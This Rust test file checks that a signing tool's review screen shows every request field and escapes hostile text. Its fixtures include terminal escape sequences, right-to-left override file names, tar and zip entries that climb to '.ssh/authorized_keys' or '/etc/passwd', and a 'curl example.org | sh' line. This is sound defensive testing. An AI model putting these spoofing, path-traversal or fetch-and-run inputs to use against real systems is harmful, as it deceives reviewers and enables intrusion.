//! Nothing that is asked for is left out of what is shown.
//!
//! Every field is named by taking its struct apart, so that a new field does not compile before
//! somebody has decided how it is shown.

use std::fs;

use pack_format::relay::PublicKey;
use pack_format::secret::Secret32;
use pack_format::words::fingerprint_words;
use proptest::prelude::*;
use signing_format::content::{ContentSealer, SealedContent};
use signing_format::digest_state::Sha512Stream;
use signing_format::git::{ObjectFormat, ObjectKind, RawObject};
use signing_format::key_reference::KeyReference;
use signing_format::request::{Request, RequestHash, RequestId};
use signing_format::subject::{
    CertifySubject, DecryptSubject, FileForm, FileSource, FileSubject, GitForm, GitSubject, Subject,
};

use super::*;
use crate::clock::UnixTime;
use crate::openpgp::{KeyVersion, NewKey, SecretCertificate};
use crate::paths::VaultPaths;
use crate::signing::content::Content;

/// Text as an attacker writes it: escapes, direction marks, line ends, and what looks like ours.
fn hostile() -> impl Strategy<Value = String> {
    prop_oneof![
        "[ -~]{1,40}",
        "\\PC{1,20}",
        Just("\u{1b}[2J\u{1b}[1;1H== Who asks ==".to_owned()),
        Just("invoice\u{202e}fdp.exe".to_owned()),
        Just("\\u{202e}".to_owned()),
        Just("a\rKey            trusted".to_owned()),
    ]
}

/// A user id as a certificate can have it, and no shorter than a word.
fn user_id() -> impl Strategy<Value = String> {
    hostile().prop_map(|text| {
        text.chars()
            .filter(|ch| !ch.is_control())
            .collect::<String>()
            + " <a@b>"
    })
}

fn key() -> impl Strategy<Value = KeyReference> {
    prop_oneof![
        any::<[u8; 20]>().prop_map(KeyReference::OpenPgpV4),
        any::<[u8; 32]>().prop_map(KeyReference::OpenPgpV6),
        any::<[u8; 32]>().prop_map(KeyReference::Ssh),
        any::<([u8; 8], [u8; 32])>()
            .prop_map(|(key_id, key)| KeyReference::Minisign { key_id, key }),
    ]
}

fn form() -> impl Strategy<Value = FileForm> {
    prop_oneof![
        Just(FileForm::OpenPgp),
        hostile().prop_map(|namespace| FileForm::Ssh { namespace }),
        hostile().prop_map(|trusted_comment| FileForm::Minisign { trusted_comment }),
    ]
}

fn request(subject: Subject, key: KeyReference, texts: (String, String)) -> Request {
    Request {
        id: RequestId([7; 16]),
        created_at: 1_790_000_000,
        expires_at: 1_790_600_000,
        requester: texts.0,
        requester_key: PublicKey([9; 32]),
        reply_key: Secret32::new([1; 32]),
        key,
        reason: texts.1,
        subject,
    }
}

/// Content as a desk seals it, in a vault's folder.
struct Kept {
    dir: tempfile::TempDir,
    sealed: SealedContent,
}

impl Kept {
    fn new(bytes: &[u8]) -> Self {
        let dir = tempfile::tempdir().unwrap();
        let paths = VaultPaths::new(dir.path());
        fs::create_dir_all(paths.bundles()).unwrap();
        let mut sealer = ContentSealer::new(Secret32::new([2; 32]), &[3; 24]);
        let mut out = sealer.push(bytes).unwrap();
        let (last, sealed) = sealer.finish();
        out.extend(last);
        fs::write(paths.bundles().join("content"), out).unwrap();
        Self { dir, sealed }
    }

    fn content(&self) -> Content {
        Content::open(&VaultPaths::new(self.dir.path()), "content", &self.sealed).unwrap()
    }

    fn description(&self) -> SealedContent {
        SealedContent {
            content_id: self.sealed.content_id,
            key: self.sealed.key.duplicate(),
            plain_bytes: self.sealed.plain_bytes,
            plain_hash: self.sealed.plain_hash,
        }
    }
}

fn hex(bytes: &[u8]) -> String {
    data_encoding::HEXLOWER.encode(bytes)
}

/// Whether all of these stand in the lines, each within one line.
fn missing(lines: &[String], wanted: &[String]) -> Vec<String> {
    let is_shown = |text: &String| lines.iter().any(|line| line.contains(text.as_str()));
    let absent = wanted.iter().filter(|text| !is_shown(text));
    absent.cloned().collect()
}

fn quoted_lines(bytes: &[u8]) -> Vec<String> {
    text::quoted(bytes)
        .iter()
        .map(ToString::to_string)
        .collect()
}

/// What has to be shown of every request.
fn wanted_of_request(request: &Request, hash: &RequestHash) -> Vec<String> {
    let Request {
        id,
        created_at,
        expires_at,
        requester,
        requester_key,
        // Opens the reply: a secret, and nothing that is signed.
        reply_key: _,
        key,
        reason,
        subject: _,
    } = request;
    let words = fingerprint_words(blake3::hash(&requester_key.0).as_bytes()).join(" ");
    let mut wanted = vec![
        id.to_string(),
        hex(&hash.0),
        UnixTime::of_secs(*created_at).to_string(),
        UnixTime::of_secs(*expires_at).to_string(),
        escaped(requester.as_bytes()),
        words,
        key.to_string(),
    ];
    wanted.extend(
        text::quoted_lines(reason.as_bytes())
            .iter()
            .map(ToString::to_string),
    );
    wanted
}

fn wanted_of_file(file: &FileSubject) -> Vec<String> {
    let FileSubject {
        name,
        size_bytes,
        form,
        source,
    } = file;
    let mut wanted = vec![escaped(name.as_bytes()), format!("{size_bytes} bytes")];
    match form {
        FileForm::OpenPgp | FileForm::OpenPgpClear => wanted.push("OpenPGP".to_owned()),
        FileForm::Minisign { trusted_comment } => {
            wanted.extend(["minisign".to_owned(), escaped(trusted_comment.as_bytes())]);
        }
        FileForm::Ssh { namespace } => {
            wanted.extend(["SSH".to_owned(), escaped(namespace.as_bytes())]);
        }
    }
    match source {
        FileSource::Content(content) => {
            // The name and the key of the sealed form cross gaps and are not signed.
            let SealedContent {
                content_id: _,
                key: _,
                plain_bytes,
                plain_hash,
            } = content;
            wanted.extend([plain_bytes.to_string(), hex(plain_hash)]);
        }
        FileSource::Sha512(state) => wanted.push(hex(&state.digest())),
        FileSource::Blake2b(hash) => wanted.push(hex(hash)),
    }
    wanted
}

fn review_with(
    request: &Request,
    hash: &RequestHash,
    add: impl FnOnce(&mut Review) -> Result<(), ReviewError>,
) -> Review {
    let mut made = Review::default();
    made.sections
        .push(head(request, hash, &Surroundings::default()));
    add(&mut made).unwrap();
    made
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

    #[test]
    fn every_field_of_a_file_request_is_shown(
        texts in (hostile(), hostile()),
        name in hostile(),
        key in key(),
        form in form(),
        body in proptest::collection::vec(any::<u8>(), 0..300),
        crosses in any::<bool>(),
    ) {
        let kept = Kept::new(&body);
        let mut stream = Sha512Stream::new();
        stream.update(&body);
        let source = match (&form, crosses) {
            (_, true) => FileSource::Content(kept.description()),
            (FileForm::Minisign { .. }, false) => FileSource::Blake2b([6; 64]),
            (_, false) => FileSource::Sha512(stream.into_state()),
        };
        let file = FileSubject { name, size_bytes: body.len() as u64, form, source };
        let request = request(Subject::File(file), key, texts);
        let hash = RequestHash([4; 32]);
        let Subject::File(file) = &request.subject else { unreachable!() };
        let content = crosses.then(|| kept.content());
        let made = review_with(&request, &hash, |made| file::review(made, file, content.as_ref()));
        let lines = made.to_lines();
        let mut wanted = wanted_of_request(&request, &hash);
        wanted.extend(wanted_of_file(file));
        prop_assert_eq!(missing(&lines, &wanted), Vec::<String>::new());
        // The file itself is shown, or its place is taken by a risk or by what it is.
        let is_text = std::str::from_utf8(&body).is_ok_and(|text| !text.contains('\0'));
        if !crosses {
            prop_assert!(made.risks.contains(&Risk::ContentNotSeen));
        } else if is_text && !body.is_empty() {
            prop_assert_eq!(missing(&lines, &quoted_lines(&body)), Vec::<String>::new());
        }
        prop_assert!(!lines.iter().any(|line| line.chars().any(|ch| ch != '\t' && pack_format::shown::is_hidden(ch))));
    }

    #[test]
    fn every_field_of_a_git_request_is_shown(
        texts in (hostile(), hostile()),
        names in (hostile(), hostile()),
        author in "[a-zA-Z\u{202e}\u{1b} ]{1,12}",
        header in "[a-z\u{200f}]{1,12}",
        message in hostile(),
        seconds in 1_u64..4_000_000_000,
        line in "[ -~\u{1b}\u{2066}]{1,40}",
    ) {
        let format = ObjectFormat::Sha1;
        let raw = |kind, bytes: Vec<u8>| RawObject::new(kind, bytes).unwrap();
        let blob = raw(ObjectKind::Blob, format!("{line}\n").into_bytes());
        let blob_id = blob.id(format).unwrap();
        let mut entry = b"100755 run.sh\0".to_vec();
        entry.extend(blob_id.as_bytes());
        let tree = raw(ObjectKind::Tree, entry);
        let tree_id = tree.id(format).unwrap();
        let commit = format!(
            "tree {tree_id}\nauthor {author} <a@b> {seconds} +0130\n\
             committer C <c@d> {seconds} -0700\nx-note {header}\n\n{message}"
        );
        let commit = raw(ObjectKind::Commit, commit.into_bytes());
        let commit_id = commit.id(format).unwrap();
        let tag = format!(
            "object {commit_id}\ntype commit\ntag v1\ntagger T <t@u> {seconds} +0000\n\nnew\n"
        );
        let tag = raw(ObjectKind::Tag, tag.into_bytes());
        let tag_id = tag.id(format).unwrap();
        let content = signing_format::git::GitContent::new(
            format, &[commit, tag], vec![tree, blob],
        ).unwrap();
        let kept = Kept::new(b"");
        let git = GitSubject {
            repository: names.0, reference: names.1, form: GitForm::Ssh, object_count: 2,
            content: kept.description(),
        };
        let key = KeyReference::Ssh([5; 32]);
        let request = request(Subject::Git(git), key, texts);
        let hash = RequestHash([4; 32]);
        let Subject::Git(git) = &request.subject else { unreachable!() };
        let made = review_with(&request, &hash, |made| git::review(made, git, &content));
        let lines = made.to_lines();
        let GitSubject { repository, reference, form: _, object_count, content: _ } = git;
        let mut wanted = wanted_of_request(&request, &hash);
        wanted.extend([
            escaped(repository.as_bytes()), escaped(reference.as_bytes()),
            "SSH, namespace git".to_owned(), object_count.to_string(),
            commit_id.to_string(), tree_id.to_string(), tag_id.to_string(), blob_id.to_string(),
            escaped(author.trim_end().as_bytes()), escaped(header.as_bytes()), "x-note".to_owned(),
            format!("({seconds} +0130)"), format!("({seconds} -0700)"), format!("({seconds} +0000)"),
            "run.sh".to_owned(), "PROGRAM".to_owned(), format!("+{}", escaped(line.as_bytes())),
            "v1".to_owned(),
        ]);
        wanted.extend(quoted_lines(message.as_bytes()));
        prop_assert_eq!(missing(&lines, &wanted), Vec::<String>::new());
        prop_assert!(!lines.iter().any(|line| line.chars().any(|ch| ch != '\t' && pack_format::shown::is_hidden(ch))));
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 12, ..ProptestConfig::default() })]

    #[test]
    fn every_field_of_a_certificate_request_is_shown(
        texts in (hostile(), hostile()),
        user_ids in proptest::collection::btree_set(user_id(), 1..3),
        other in "[a-z]{8}",
    ) {
        let at = UnixTime(1_790_000_000);
        let mut all: Vec<String> = user_ids.iter().cloned().collect();
        all.push(other.clone());
        let wanted = NewKey {
            user_ids: all, version: KeyVersion::V4, for_encryption: true, valid_secs: Some(9_999_999),
        };
        let made = SecretCertificate::generate(&wanted, at).unwrap().certificate;
        let bytes = made.public_bytes().unwrap();
        let certify = CertifySubject {
            user_ids: user_ids.into_iter().collect(),
            content: Kept::new(&bytes).description(),
        };
        let key = KeyReference::OpenPgpV4([5; 20]);
        let request = request(Subject::Certify(certify), key, texts);
        let hash = RequestHash([4; 32]);
        let Subject::Certify(certify) = &request.subject else { unreachable!() };
        let made = review_with(&request, &hash, |made| certificate::review(made, certify, &bytes, at));
        let lines = made.to_lines();
        let CertifySubject { user_ids, content: _ } = certify;
        let mut wanted = wanted_of_request(&request, &hash);
        wanted.extend(user_ids.iter().map(|id| format!("CERTIFY        {}", escaped(id.as_bytes()))));
        wanted.push(format!("Not certified  {other}"));
        let info = crate::openpgp::CertificateReview::parse(&bytes, at).unwrap().info;
        wanted.extend(info.keys.iter().map(|key| key.fingerprint.clone()));
        prop_assert_eq!(missing(&lines, &wanted), Vec::<String>::new());
    }
}

#[test]
fn a_user_id_that_is_not_in_the_certificate_is_not_shown_as_one() {
    let at = UnixTime(1_790_000_000);
    let wanted = NewKey {
        user_ids: vec!["Amina".to_owned()],
        version: KeyVersion::V4,
        for_encryption: false,
        valid_secs: None,
    };
    let made = SecretCertificate::generate(&wanted, at).unwrap();
    let bytes = made.certificate.public_bytes().unwrap();
    let certify = CertifySubject {
        user_ids: vec!["Bilal".to_owned()],
        content: Kept::new(&bytes).description(),
    };
    let shown = certificate::review(&mut Review::default(), &certify, &bytes, at);
    assert!(matches!(shown, Err(ReviewError::NoSuchUserId { .. })));
    let garbage = certificate::review(&mut Review::default(), &certify, b"no certificate", at);
    assert!(matches!(garbage, Err(ReviewError::OpenPgp(_))));
}

#[test]
fn an_escape_in_a_user_id_becomes_visible() {
    let at = UnixTime(1_790_000_000);
    let wanted = NewKey {
        user_ids: vec!["Amina xxxx<a@b>".to_owned()],
        version: KeyVersion::V4,
        for_encryption: false,
        valid_secs: None,
    };
    let made = SecretCertificate::generate(&wanted, at).unwrap();
    let mut bytes = made.certificate.public_bytes().unwrap();
    let place = bytes.windows(4).position(|it| it == b"xxxx").unwrap();
    bytes[place..place + 4].copy_from_slice(b"\x1b[2J");
    let certify = CertifySubject {
        user_ids: vec!["Amina \u{1b}[2J<a@b>".to_owned()],
        content: Kept::new(&bytes).description(),
    };
    let mut made = Review::default();
    certificate::review(&mut made, &certify, &bytes, at).unwrap();
    let text = made.to_lines().join("\n");
    assert!(
        text.contains("CERTIFY        Amina \\u{1b}[2J<a@b>"),
        "{text}"
    );
    assert!(text.contains("NOT SIGNED BY ITS OWNER"), "{text}");
}

#[test]
fn every_field_of_a_message_request_is_shown() {
    // A session key for one RSA key id, and a body of version 1 that nobody can open.
    let mut message = vec![0xc1, 0x4c, 0x03];
    message.extend([0xaa; 8]);
    message.extend([0x01, 0x01, 0xff]);
    message.extend([0x40; 64]);
    message.extend([0xd2, 0x40, 0x01]);
    message.extend([0x55; 63]);
    let decrypt = DecryptSubject {
        name: "letter\u{202e}gpg.exe".to_owned(),
        content: Kept::new(&message).description(),
    };
    let request = request(
        Subject::Decrypt(decrypt),
        KeyReference::OpenPgpV4([5; 20]),
        ("Bilal".to_owned(), "please read".to_owned()),
    );
    let hash = RequestHash([4; 32]);
    let Subject::Decrypt(decrypt) = &request.subject else {
        unreachable!()
    };
    let made = review_with(&request, &hash, |made| {
        message::review(made, decrypt, &message, None)
    });
    let DecryptSubject { name, content: _ } = decrypt;
    let mut wanted = wanted_of_request(&request, &hash);
    wanted.extend([
        escaped(name.as_bytes()),
        "A".repeat(16),
        format!("{} bytes", message.len()),
        blake3::hash(&message).to_hex().to_string(),
    ]);
    assert_eq!(missing(&made.to_lines(), &wanted), Vec::<String>::new());
}

#[test]
fn a_commit_whose_tree_did_not_come_is_a_risk() {
    let format = ObjectFormat::Sha1;
    let tree = "4b825dc642cb6eb9a060e54bf8d69288fbee4904";
    let other =
        RawObject::new(ObjectKind::Tree, b"100644 a\0aaaaaaaaaaaaaaaaaaaa".to_vec()).unwrap();
    let commit = format!(
        "tree {}\nauthor A <a@b> 1 +0000\ncommitter A <a@b> 1 +0000\n\nx\n",
        "1".repeat(40)
    );
    let commit = RawObject::new(ObjectKind::Commit, commit.into_bytes()).unwrap();
    let content = signing_format::git::GitContent::new(format, &[commit], vec![other]).unwrap();
    let git = GitSubject {
        repository: String::new(),
        reference: String::new(),
        form: GitForm::Ssh,
        object_count: 1,
        content: Kept::new(b"").description(),
    };
    let mut made = Review::default();
    git::review(&mut made, &git, &content).unwrap();
    assert_eq!(made.risks, [Risk::ChangesNotShown]);
    assert!(!made.to_lines().iter().any(|line| line.contains(tree)));
}

#[test]
fn a_request_that_names_another_number_of_objects_is_not_shown() {
    let commit = format!(
        "tree {}\nauthor A <a@b> 1 +0000\ncommitter A <a@b> 1 +0000\n\nx\n",
        "1".repeat(40)
    );
    let commit = RawObject::new(ObjectKind::Commit, commit.into_bytes()).unwrap();
    let content =
        signing_format::git::GitContent::new(ObjectFormat::Sha1, &[commit], Vec::new()).unwrap();
    let git = GitSubject {
        repository: String::new(),
        reference: String::new(),
        form: GitForm::Ssh,
        object_count: 2,
        content: Kept::new(b"").description(),
    };
    let made = git::review(&mut Review::default(), &git, &content);
    assert!(matches!(
        made,
        Err(ReviewError::ObjectCount { said: 2, found: 1 })
    ));
}

#[test]
fn a_word_that_was_shown_is_part_of_the_hash() {
    let hash = RequestHash([1; 32]);
    let mut made = Review::default();
    made.push("Title", vec![Line::Note("words".to_owned())]);
    let before = made.hash(&hash);
    made.push("Title", vec![Line::Note("more words".to_owned())]);
    assert_ne!(before, made.hash(&hash));
    assert_ne!(made.hash(&hash), made.hash(&RequestHash([2; 32])));
}

/// An archive as the tool for it writes one, in a vault's folder.
fn shown_file(bytes: &[u8]) -> Review {
    let kept = Kept::new(bytes);
    let file = FileSubject {
        name: "x".to_owned(),
        size_bytes: bytes.len() as u64,
        form: FileForm::OpenPgp,
        source: FileSource::Content(kept.description()),
    };
    let mut made = Review::default();
    file::review(&mut made, &file, Some(&kept.content())).unwrap();
    made
}

fn tar_of(names: &[&str]) -> Vec<u8> {
    let mut builder = tar::Builder::new(Vec::new());
    for name in names {
        let mut header = tar::Header::new_gnu();
        header.set_size(3);
        let field = &mut header.as_old_mut().name;
        field[..name.len()].copy_from_slice(name.as_bytes());
        header.set_cksum();
        builder.append(&header, &b"abc"[..]).unwrap();
    }
    builder.into_inner().unwrap()
}

#[test]
fn the_files_of_an_archive_are_listed_also_when_it_is_compressed() {
    use std::io::Write as _;
    let tar = tar_of(&["src/main.rs", "evil\u{202e}x"]);
    let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gzip.write_all(&tar).unwrap();
    let zstd = zstd::encode_all(tar.as_slice(), 1).unwrap();
    for bytes in [tar, gzip.finish().unwrap(), zstd] {
        let made = shown_file(&bytes);
        let text = made.to_lines().join("\n");
        assert!(text.contains("3 bytes  file  src/main.rs"), "{text}");
        assert!(text.contains("evil\\u{202e}x"), "{text}");
        assert_eq!(made.risks, []);
    }
}

#[test]
fn an_archive_that_writes_outside_its_folder_is_a_risk() {
    for name in ["../../.ssh/authorized_keys", "/etc/passwd"] {
        let made = shown_file(&tar_of(&[name]));
        assert_eq!(made.risks, [Risk::SuspiciousPaths], "{name}");
        assert!(made.to_lines().join("\n").contains("SUSPICIOUS"));
    }
}

#[test]
fn an_archive_that_is_cut_short_is_a_risk() {
    let tar = tar_of(&["a", "b"]);
    let made = shown_file(&tar[..1100]);
    assert_eq!(made.risks, [Risk::ArchiveNotListed]);
    let mut zip = b"PK\x03\x04".to_vec();
    zip.extend([0; 100]);
    assert_eq!(shown_file(&zip).risks, [Risk::ArchiveNotListed]);
    assert_eq!(
        shown_file(b"\xfd7zXZ\x00 and more").risks,
        [Risk::ArchiveNotListed]
    );
}

#[test]
fn the_files_of_a_zip_archive_are_listed() {
    let mut bytes = Vec::new();
    let mut archive = rawzip::ZipArchiveWriter::new(&mut bytes);
    for name in ["docs/readme.md", "xx/out"] {
        let file = archive.new_file(name);
        let file = file.compression_method(rawzip::CompressionMethod::DEFLATE);
        let (mut entry, config) = file.start().unwrap();
        let packer = flate2::write::DeflateEncoder::new(&mut entry, flate2::Compression::fast());
        let mut writer = config.wrap(packer);
        std::io::Write::write_all(&mut writer, b"text").unwrap();
        let (packer, descriptor) = writer.finish().unwrap();
        packer.finish().unwrap();
        entry.finish(descriptor).unwrap();
    }
    archive.finish().unwrap();
    // The library does not write such a name; whoever attacks does.
    while let Some(at) = bytes.windows(6).position(|it| it == b"xx/out") {
        bytes[at..at + 2].copy_from_slice(b"..");
    }
    let made = shown_file(&bytes);
    let text = made.to_lines().join("\n");
    assert!(text.contains("4 bytes  file  docs/readme.md"), "{text}");
    assert_eq!(made.risks, [Risk::SuspiciousPaths], "{text}");
}

#[test]
fn bytes_of_no_known_kind_are_a_risk_and_known_ones_are_named() {
    let unknown = shown_file(&[0x00, 0xff, 0x13, 0x37, 0x80]);
    assert_eq!(unknown.risks, [Risk::UnknownContent]);
    let elf = shown_file(b"\x7fELF\x02\x01\x01\xff\xfe");
    assert_eq!(elf.risks, [Risk::BinaryContent]);
    // A program that runs it looks at other bytes than the first.
    let script = shown_file(b"GIF8=1\n# \0\xff\ncurl example.org | sh\n");
    assert_eq!(script.risks, [Risk::BinaryContent]);
    assert!(elf.to_lines().join("\n").contains("ELF program or library"));
}

#[test]
fn a_text_that_nobody_reads_to_its_end_is_a_risk() {
    let long = "line\n".repeat(300_000);
    assert_eq!(shown_file(long.as_bytes()).risks, [Risk::ContentTooLong]);
}
